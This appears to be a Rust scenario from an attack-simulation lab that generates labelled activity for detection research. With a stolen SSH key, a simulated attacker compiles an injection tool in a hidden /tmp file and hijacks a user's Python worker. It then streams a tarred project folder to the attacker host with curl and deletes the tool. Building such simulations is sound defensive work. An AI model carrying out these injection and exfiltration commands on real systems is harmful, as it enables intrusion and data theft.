//! With a stolen key, a program is built that makes a worker of the same user run something else in its place.
//!
//! Hard because: what is done then is done by a process that was there long before, below another parent; a compiler is at home there.

use crate::Lab;
use crate::life::remote::{self, Thief, make_key, quoted};
use crate::life::{compile, host_tasks, web};
use crate::program::{Program, user};
use anyhow::{Result, ensure};

const INJECT: &str = include_str!("../../files/inject.c");
const WORKER: &str =
    "import time\nfor n in range(10000):\n    open('/home/alice/worker.log', 'w').write(str(n))\n    time.sleep(1)\n";

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("shell-4")?;
    let (admin, attacker) = (lab.outsider("admin")?, lab.outsider("attacker")?);
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    compile::prepare(lab, &host)?;
    remote::work(lab, &admin, &host, "deploy")?;
    make_key(&attacker, "/root/.ssh/stolen", user::ROOT, &[(&host, "/home/alice", user::ALICE)])?;
    web::take_upload(&attacker)?;
    host.put_as("/home/alice/worker.py", WORKER, 0o644, user::ALICE)?;
    host.start("worker.service", &Program::new(["/usr/bin/python3", "/home/alice/worker.py"]).user(user::ALICE))?;
    for _ in lab.rounds(1) {
        compile::once(lab, &host)?;
        lab.wait(10..18);
    }

    let attack = lab.attack("injection into a worker")?;
    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "alice", to: &host };
    let tool = format!("/tmp/.{}", lab.word(6));
    let step = attack.step("a tool is brought and built", &["T1078.003", "T1027.004", "T1057"]);
    step.remote(&host, &attacker);
    for path in [tool.clone(), format!("{tool}.c")] {
        step.file(&host, &path);
    }
    let build = format!(
        "{} printf %s {} > {tool}.c; gcc -o {tool} {tool}.c; pgrep -f worker.py",
        step.mark(&host)?,
        quoted(INJECT)
    );
    let said = thief.log_in(&build)?;
    let worker = said.lines().find_map(|line| line.trim().parse::<u32>().ok());
    ensure!(worker.is_some(), "the worker was not found: {said}");
    drop(step);
    lab.wait(3..7);

    let step = attack.step("the worker runs a shell in its place", &["T1055.008"]);
    step.remote(&host, &attacker);
    let next = attack.step("which takes the project away", &["T1005", "T1048.003"]);
    let (to, done) = (attacker.address, format!("/tmp/.{}", lab.word(4)));
    let commands = format!(
        "{} tar -cf - /home/alice/project 2>/dev/null | curl -s -T - http://{to}/; id > {done}",
        next.mark(&host)?
    );
    let worker = worker.unwrap_or_default();
    thief.log_in(&format!("{} {tool} {worker} {}; rm {tool} {tool}.c", step.mark(&host)?, quoted(&commands)))?;
    drop(step);
    next.remote(&host, &attacker);
    next.file(&host, &done);
    host.wait_for_file(&done)?;
    drop(next);
    lab.wait(8..14);
    Ok(())
}
